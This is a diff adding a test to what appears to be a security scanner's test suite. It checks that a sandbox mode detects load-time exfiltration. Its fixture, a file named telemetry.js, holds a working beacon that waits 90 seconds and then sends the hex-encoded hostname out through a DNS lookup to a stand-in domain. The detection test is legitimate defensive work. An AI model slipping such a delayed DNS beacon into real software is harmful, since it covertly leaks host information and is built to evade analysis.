@@ -109,3 +109,21 @@ ${backdoor}`);
   const { out } = await check(hostile, ['--sandbox', '--config', config, '.']);
   assert.match(out, /1 finding \(1 error\) in 1 file; 1 file checked in [\d.]+ s; sandbox pass incomplete in 1 file\n$/);
 });
+
+test('check --sandbox also runs a file\'s top level: a beacon set on a 90-second timer at load is reported', async () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'orbit-check-load-'));
+  fs.writeFileSync(path.join(dir, 'telemetry.js'), "const os = require('os');\nsetTimeout(() => {\n  require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.t.example', () => {});\n}, 90000);\nmodule.exports = {};\n");
+  const previous = process.cwd();
+  process.chdir(dir);
+  let out = '';
+  try {
+    const code = await runCheck(['--sandbox', '--format', 'json', '.'], { out: (t) => (out += t), err: () => {}, color: false, progress: false }, new AbortController().signal);
+    assert.equal(code, 1);
+  } finally {
+    process.chdir(previous);
+  }
+  const f = JSON.parse(out).findings.filter((x) => x.ruleId === 'load-exfiltration');
+  assert.equal(f.length, 1, out);
+  assert.match(f[0].message, /os\.hostname\(\).*DNS.*hex/);
+  assert.equal(f[0].start.line, 3);
+});
